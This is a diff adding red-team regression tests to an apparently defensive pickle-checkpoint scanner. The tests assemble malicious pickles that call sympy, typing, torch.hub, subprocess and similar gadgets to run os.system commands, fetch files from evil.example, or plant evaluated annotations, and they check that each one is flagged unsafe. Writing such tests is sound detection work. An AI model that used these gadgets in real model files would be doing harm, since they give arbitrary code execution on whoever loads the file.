@@ -6,6 +6,8 @@ from __future__ import annotations
 import pickle
 from typing import Any
 
+import pytest
+
 from core.errors import Code
 from tests.pickle_asm import asm
 
@@ -314,3 +316,116 @@ def test_legacy_module_persistent_id_hides_callable(judge: Any) -> None:
     an, verdict = judge(data)
     assert verdict == "unsafe"
     assert "os.system through a 'module' persistent id" in messages(an, Code.PICKLE_DANGEROUS_CALL)
+
+
+# -- red team round 3: globals that ran code under pickle.load but were only `unknown` --------
+
+class G:
+    """A global pushed by STACK_GLOBAL (protocol 4 resolves dotted names attribute by attribute)."""
+
+    def __init__(self, module: str, name: str, *args: Any) -> None:
+        self.module, self.name, self.args = module, name, args
+
+    def items(self, call: bool) -> list[Any]:
+        out: list[Any] = [("SHORT_BINUNICODE", self.module), ("SHORT_BINUNICODE", self.name),
+                          "STACK_GLOBAL"]
+        if call:
+            out += ["MARK", *[i for a in self.args for i in arg_items(a)], "TUPLE", "REDUCE"]
+        return out
+
+
+class Call(G):
+    """`module.name(*args)` as a value."""
+
+
+def arg_items(value: Any) -> list[Any]:
+    if isinstance(value, Call):
+        return value.items(call=True)
+    if isinstance(value, G):
+        return value.items(call=False)
+    if isinstance(value, str):
+        return [("BINUNICODE", value)]
+    if isinstance(value, bool):
+        return ["NEWTRUE" if value else "NEWFALSE"]
+    if isinstance(value, int):
+        return [("BININT", value)]
+    if isinstance(value, float):
+        return [("BINFLOAT", value)]
+    if isinstance(value, bytes):
+        return [("SHORT_BINBYTES", value)]
+    if isinstance(value, list):
+        return ["EMPTY_LIST", "MARK", *[i for v in value for i in arg_items(v)], "APPENDS"]
+    if isinstance(value, dict):
+        assert not value
+        return ["EMPTY_DICT"]
+    raise TypeError(value)
+
+
+def reduce_pickle(call: Call) -> bytes:
+    return asm(("PROTO", 4), *call.items(call=True), "STOP")
+
+
+CMD = "__import__('os').system('touch /tmp/ckptguard-pwned')"
+NS = Call("types", "SimpleNamespace")
+
+
+@pytest.mark.parametrize("call", [
+    Call("sympy", "sympify", CMD),
+    Call("sympy.core.sympify", "sympify", CMD),
+    Call("sympy.core.sympify", "kernS", CMD),
+    Call("sympy.parsing.sympy_parser", "parse_expr", CMD),
+    Call("sympy.parsing.sympy_parser", "eval_expr", CMD, {}, {}),
+    Call("sympy", "S", CMD),
+    Call("sympy", "lambdify", [], CMD),
+    Call("typing", "_eval_type", Call("typing", "ForwardRef", CMD), {}, {}),
+    Call("typing", "ForwardRef._evaluate", Call("typing", "ForwardRef", CMD), {}, {},
+         Call("builtins", "frozenset")),
+    Call("_testcapi", "run_in_subinterp", "import os; os.system('id')"),
+    Call("_bootsubprocess", "check_output", ["id"]),
+    Call("torch.utils.model_zoo", "load_url", "https://evil.example/w.pt"),
+    Call("torch.hub", "load_state_dict_from_url", "https://evil.example/w.pt"),
+    Call("warnings", "_getcategory", "antigravity.geohash"),
+    Call("antigravity", "geohash", 37.4, -122.1, b"2005-05-26-10458.68"),
+    Call("_pyio", "open", "/tmp/ckptguard-pwned", "w"),
+    Call("_pyio", "FileIO", "/tmp/ckptguard-pwned", "w"),
+    Call("xml.sax", "parse", "https://evil.example/x.xml", Call("xml.sax.handler", "ContentHandler")),
+    Call("numpy.lib._datasource", "open", "https://evil.example/x.txt"),
+    Call("_imp", "init_frozen", "__hello__"),
+    Call("_frozen_importlib", "_gcd_import", "antigravity"),
+    Call("_frozen_importlib_external", "SourceFileLoader", "m", "/tmp/m.py"),
+    Call("torch.utils.benchmark", "Timer.timeit", Call("torch.utils.benchmark", "Timer", CMD), 1),
+    Call("torch", "compile", G("torch", "add")),
+    Call("torch.library", "Library", "aten", "IMPL"),
+    Call("_posixshmem", "shm_unlink", "/psm_victim"),
+    Call("_multiprocessing", "sem_unlink", "/mp-victim"),
+    Call("_operator", "setitem", G("torch.serialization", "_package_registry"), 0,
+         G("builtins", "print")),
+], ids=lambda c: f"{c.module}.{c.name}")
+def test_red_team_round_3_global_is_unsafe(judge: Any, call: Call) -> None:
+    an, verdict = judge(reduce_pickle(call))
+    assert verdict == "unsafe", [f.message for f in an.findings]
+    assert an.globals[(call.module, call.name)].status == "dangerous"
+    assert Code.PICKLE_DANGEROUS_GLOBAL in codes(an)
+    assert f"calls {call.module}.{call.name}(" in messages(an, Code.PICKLE_DANGEROUS_CALL)
+
+
+def test_build_plants_annotations_for_get_type_hints(judge: Any) -> None:
+    """BUILD {'__annotations__': {'a': CMD}} on an object, then typing.get_type_hints(obj)."""
+    data = asm(("PROTO", 4), ("SHORT_BINUNICODE", "typing"), ("SHORT_BINUNICODE", "get_type_hints"),
+               "STACK_GLOBAL", *NS.items(call=True), "EMPTY_DICT",
+               ("SHORT_BINUNICODE", "__annotations__"), "EMPTY_DICT", ("SHORT_BINUNICODE", "a"),
+               ("BINUNICODE", CMD), "SETITEM", "SETITEM", "BUILD", "TUPLE1", "REDUCE", "STOP")
+    an, verdict = judge(data)
+    assert verdict == "unsafe"
+    assert an.globals[("typing", "get_type_hints")].status == "dangerous"
+    assert "BUILD sets __annotations__" in messages(an, Code.PICKLE_DANGEROUS_CALL)
+
+
+def test_build_plants_annotations_alone(judge: Any) -> None:
+    """The planted string annotations are evaluated by whoever inspects the object later."""
+    data = asm(("PROTO", 4), *NS.items(call=True), "EMPTY_DICT",
+               ("SHORT_BINUNICODE", "__annotations__"), "EMPTY_DICT", ("SHORT_BINUNICODE", "a"),
+               ("BINUNICODE", CMD), "SETITEM", "SETITEM", "BUILD", "STOP")
+    an, verdict = judge(data)
+    assert verdict == "unsafe" and "BUILD sets __annotations__" in messages(
+        an, Code.PICKLE_DANGEROUS_CALL)
